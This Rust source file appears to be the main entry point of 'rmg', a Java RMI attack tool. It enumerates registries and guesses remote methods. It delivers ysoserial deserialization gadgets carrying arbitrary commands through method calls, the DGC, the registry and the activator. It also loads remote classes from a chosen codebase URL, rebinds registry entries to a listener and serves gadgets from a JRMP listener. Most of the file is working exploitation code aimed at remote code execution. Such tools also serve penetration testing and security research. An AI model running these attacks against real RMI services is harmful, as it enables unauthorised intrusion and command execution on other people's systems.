use std::path::PathBuf;
use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{anyhow, bail, Context, Result};
use clap::{Args, Parser, Subcommand};
use tracing::warn;
use tracing_subscriber::{fmt, EnvFilter};

use rmg::activation::ActivatorClient;
use rmg::attacker::{AttackPayload, MethodAttacker};
use rmg::call::LegacyMode;
use rmg::candidate::MethodCandidate;
use rmg::config::Config;
use rmg::connection::TcpDialer;
use rmg::dgc::{DgcClient, DgcOp};
use rmg::directory::Directory;
use rmg::endpoint::ListenerSpec;
use rmg::findings::DeliveryOutcome;
use rmg::gadget::Ysoserial;
use rmg::guesser::{GuessResult, GuessTarget, MethodGuesser};
use rmg::registry::{RegistryClient, RegistryOp};
use rmg::response::ResponseClass;
use rmg::serial::JavaValue;
use rmg::session::Session;
use rmg::util::Payload;
use rmg::wordlist;

#[derive(Parser, Debug)]
#[command(name = "rmg", version, about = "Java RMI enumeration, method guessing and payload delivery")]
struct Cli {
    /// TOML configuration file
    #[arg(long, global = true, env = "RMG_CONFIG")]
    config: Option<PathBuf>,
    #[arg(long, global = true)]
    threads: Option<usize>,
    #[arg(long, global = true)]
    timeout_ms: Option<u64>,
    /// Wrap connections in TLS
    #[arg(long, global = true)]
    tls: bool,
    /// Follow references to the host they advertise
    #[arg(long, global = true)]
    follow: bool,
    /// auto, force or never
    #[arg(long, global = true)]
    legacy: Option<LegacyMode>,
    /// Only guess methods without parameters
    #[arg(long, global = true)]
    zero_arg: bool,
    /// Announce a loopback origin on registry calls
    #[arg(long, global = true)]
    localhost_bypass: bool,
    #[arg(long, global = true)]
    ysoserial: Option<PathBuf>,
    #[command(subcommand)]
    action: Action,
}

#[derive(Args, Debug)]
struct Target {
    host: String,
    port: u16,
}

#[derive(Args, Debug)]
struct Gadget {
    /// ysoserial gadget name
    gadget: String,
    command: String,
}

#[derive(Subcommand, Debug)]
enum Action {
    /// Enumerate the registry, DGC and activator
    Enum {
        #[command(flatten)]
        target: Target,
    },
    /// Guess remote methods of bound objects
    Guess {
        #[command(flatten)]
        target: Target,
        /// Wordlist file or folder of *.txt files
        #[arg(long, required_unless_present = "signature")]
        wordlist: Option<PathBuf>,
        #[arg(long)]
        signature: Vec<String>,
        #[arg(long)]
        bound_name: Vec<String>,
    },
    /// Send a gadget through a method argument
    Method {
        #[command(flatten)]
        target: Target,
        #[arg(long)]
        bound_name: String,
        #[arg(long)]
        signature: String,
        #[arg(long)]
        position: Option<usize>,
        #[command(flatten)]
        gadget: Gadget,
    },
    /// Send a gadget through a DGC call
    Dgc {
        #[command(flatten)]
        target: Target,
        #[arg(long)]
        method: Option<DgcOp>,
        #[command(flatten)]
        gadget: Gadget,
    },
    /// Send a gadget through a registry call
    Reg {
        #[command(flatten)]
        target: Target,
        #[arg(long)]
        method: Option<RegistryOp>,
        #[command(flatten)]
        gadget: Gadget,
    },
    /// Send a gadget through the activator
    Act {
        #[command(flatten)]
        target: Target,
        #[command(flatten)]
        gadget: Gadget,
    },
    /// Send an object of a class the target has to load from a codebase
    Codebase {
        #[command(flatten)]
        target: Target,
        class_name: String,
        codebase_url: String,
        /// Deliver through this method of --bound-name instead of the DGC
        #[arg(long, requires = "bound_name")]
        signature: Option<String>,
        #[arg(long)]
        bound_name: Option<String>,
        #[arg(long)]
        position: Option<usize>,
    },
    /// Bind a reference to a listener
    Bind {
        #[command(flatten)]
        target: Target,
        bound_name: String,
        /// host:port of the listener
        listener: ListenerSpec,
    },
    Rebind {
        #[command(flatten)]
        target: Target,
        bound_name: String,
        listener: ListenerSpec,
    },
    Unbind {
        #[command(flatten)]
        target: Target,
        bound_name: String,
    },
    /// Run a JRMP listener serving a gadget
    Listen {
        host: String,
        port: u16,
        #[command(flatten)]
        gadget: Gadget,
    },
}

fn init_tracing() -> Result<()> {
    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("rmg=info"));
    fmt()
        .with_env_filter(filter)
        .with_writer(std::io::stderr)
        .try_init()
        .map_err(|err| anyhow!(err))
}

async fn load_config(cli: &Cli) -> Result<Config> {
    let mut config = Config::load(cli.config.as_deref()).await?;
    if let Some(threads) = cli.threads {
        config.threads = threads.max(1);
    }
    if let Some(timeout_ms) = cli.timeout_ms {
        config.timeout_ms = timeout_ms;
    }
    if let Some(legacy) = cli.legacy {
        config.legacy = legacy;
    }
    if let Some(ysoserial) = &cli.ysoserial {
        config.ysoserial_path = Some(ysoserial.clone());
    }
    config.tls |= cli.tls;
    config.follow_redirect |= cli.follow;
    config.zero_arg |= cli.zero_arg;
    config.localhost_bypass |= cli.localhost_bypass;
    Ok(config)
}

fn session(config: &Config, target: &Target) -> Session {
    let dialer = TcpDialer::new(Duration::from_millis(config.timeout_ms));
    Session::new(
        config.endpoint(target.host.clone(), target.port),
        Arc::new(dialer),
        config.session_options(),
    )
}

fn ysoserial(config: &Config) -> Result<Ysoserial> {
    let jar = config
        .ysoserial_path
        .clone()
        .context("no ysoserial jar configured (--ysoserial or ysoserial_path)")?;
    Ok(Ysoserial::new(config.java_path.clone(), jar))
}

async fn gadget_payload(config: &Config, gadget: &Gadget) -> Result<Payload> {
    Ok(ysoserial(config)?
        .payload(&gadget.gadget, &gadget.command)
        .await?)
}

fn report(response: &ResponseClass) {
    println!("[+] response: {}", response);
    println!("[+] outcome:  {}", DeliveryOutcome::from_response(response));
}

fn print_guesses(result: &GuessResult) {
    for (bound_name, methods) in result {
        println!("[+] {}", bound_name);
        if methods.is_empty() {
            println!("    (no methods found)");
        }
        for method in methods {
            println!("    - {}", method);
        }
    }
}

async fn resolve_target(session: Session, bound_name: &str) -> Result<GuessTarget> {
    let mut directory = Directory::locate(session).await?;
    let filter = [bound_name.to_owned()];
    let names = directory.list_bound_names(Some(&filter));
    if names.is_empty() {
        bail!("'{}' is not bound on the registry", bound_name);
    }
    let resolved = directory.resolve_classes(names).await;
    resolved
        .first()
        .and_then(GuessTarget::from_bound)
        .with_context(|| format!("'{}' has no usable remote reference", bound_name))
}

async fn enumerate(config: &Config, target: &Target) {
    let session = session(config, target);

    println!("[+] RMI registry bound names:");
    match Directory::locate(session.fork()).await {
        Ok(mut directory) => {
            let names = directory.list_bound_names(None);
            for bound in directory.resolve_classes(names).await {
                println!("    - {}", bound);
            }
            for codebase in directory.codebases() {
                println!("[+] server codebase: {}", codebase);
            }
        }
        Err(err) => println!("    {}", err),
    }

    let registry = RegistryClient::new(session.fork());
    let findings = registry
        .enumerate(config.registry_method, &config.codebase_url)
        .await;
    println!("[+] registry String marshalling: {}", findings.string_marshalling);
    println!("[+] registry codebase:           {}", findings.codebase);
    println!("[+] registry localhost bypass:   {}", findings.localhost_bypass);
    println!("[+] registry JEP290 filter:      {}", findings.filter);
    println!("[+] registry remote references:  {}", findings.ref_admission);

    let dgc = DgcClient::new(session.fork()).enumerate(config.dgc_method, &config.codebase_url).await;
    println!("[+] DGC codebase:                {}", dgc.codebase);
    println!("[+] DGC JEP290 filter:           {}", dgc.filter);

    let activator = ActivatorClient::new(session).enumerate(&config.codebase_url).await;
    println!("[+] activator:                   {}", activator.status);
    if let Some(codebase) = &activator.codebase {
        println!("[+] activator codebase:          {}", codebase);
    }
    if let Some(filter) = &activator.filter {
        println!("[+] activator JEP290 filter:     {}", filter);
    }
}

async fn run(cli: Cli) -> Result<()> {
    let config = load_config(&cli).await?;
    match cli.action {
        Action::Enum { target } => enumerate(&config, &target).await,
        Action::Guess {
            target,
            wordlist,
            signature,
            bound_name,
        } => {
            let mut candidates = signature
                .iter()
                .map(|signature| MethodCandidate::parse(signature))
                .collect::<Result<Vec<_>, _>>()?;
            if let Some(path) = wordlist {
                candidates.extend(wordlist::load(&path).await?);
            }
            let session = session(&config, &target);
            let mut directory = Directory::locate(session.fork()).await?;
            let guesser = MethodGuesser::new(session, config.guess_options());
            let stop = guesser.stop_handle();
            tokio::spawn(async move {
                if tokio::signal::ctrl_c().await.is_ok() {
                    warn!("interrupted, finishing calls in flight");
                    stop.store(true, Ordering::SeqCst);
                }
            });
            let filter = (!bound_name.is_empty()).then_some(bound_name.as_slice());
            let result = guesser.guess(&mut directory, &candidates, filter).await;
            print_guesses(&result);
        }
        Action::Method {
            target,
            bound_name,
            signature,
            position,
            gadget,
        } => {
            let candidate = MethodCandidate::parse(&signature)?;
            rmg::attacker::select_argument(&candidate, position)?;
            let payload = gadget_payload(&config, &gadget).await?;
            let session = session(&config, &target);
            let remote = resolve_target(session.fork(), &bound_name).await?;
            let attacker = MethodAttacker::new(session, config.legacy);
            let response = attacker
                .attack(&remote, &candidate, position, AttackPayload::Serialized(payload))
                .await?;
            report(&response);
        }
        Action::Dgc {
            target,
            method,
            gadget,
        } => {
            let payload = gadget_payload(&config, &gadget).await?;
            let client = DgcClient::new(session(&config, &target));
            let response = client
                .deliver(method.unwrap_or(config.dgc_method), JavaValue::Opaque(payload))
                .await?;
            report(&response);
        }
        Action::Reg {
            target,
            method,
            gadget,
        } => {
            let payload = gadget_payload(&config, &gadget).await?;
            let client = RegistryClient::new(session(&config, &target));
            let response = client
                .deliver(
                    method.unwrap_or(config.registry_method),
                    JavaValue::Opaque(payload),
                    config.localhost_bypass,
                )
                .await?;
            report(&response);
        }
        Action::Act { target, gadget } => {
            let payload = gadget_payload(&config, &gadget).await?;
            let client = ActivatorClient::new(session(&config, &target));
            report(&client.deliver(JavaValue::Opaque(payload)).await?);
        }
        Action::Codebase {
            target,
            class_name,
            codebase_url,
            signature,
            bound_name,
            position,
        } => {
            let payload = AttackPayload::RemoteClass {
                class_name,
                codebase: codebase_url,
            };
            let session = session(&config, &target);
            let response = match (signature, bound_name) {
                (Some(signature), Some(bound_name)) => {
                    let candidate = MethodCandidate::parse(&signature)?;
                    rmg::attacker::select_argument(&candidate, position)?;
                    let remote = resolve_target(session.fork(), &bound_name).await?;
                    MethodAttacker::new(session, config.legacy)
                        .attack(&remote, &candidate, position, payload)
                        .await?
                }
                _ => {
                    DgcClient::new(session)
                        .deliver(config.dgc_method, payload.into_value())
                        .await?
                }
            };
            report(&response);
        }
        Action::Bind {
            target,
            bound_name,
            listener,
        } => {
            let client = RegistryClient::new(session(&config, &target));
            let response = client
                .bind(&bound_name, &listener, config.localhost_bypass)
                .await?;
            println!("[+] bind: {}", response);
        }
        Action::Rebind {
            target,
            bound_name,
            listener,
        } => {
            let client = RegistryClient::new(session(&config, &target));
            let response = client
                .rebind(&bound_name, &listener, config.localhost_bypass)
                .await?;
            println!("[+] rebind: {}", response);
        }
        Action::Unbind { target, bound_name } => {
            let client = RegistryClient::new(session(&config, &target));
            let response = client.unbind(&bound_name, config.localhost_bypass).await?;
            println!("[+] unbind: {}", response);
        }
        Action::Listen { host, port, gadget } => {
            ysoserial(&config)?
                .start_listener(&host, port, &gadget.gadget, &gadget.command)
                .await?;
        }
    }
    Ok(())
}

#[tokio::main]
async fn main() -> Result<()> {
    init_tracing()?;
    run(Cli::parse()).await
}
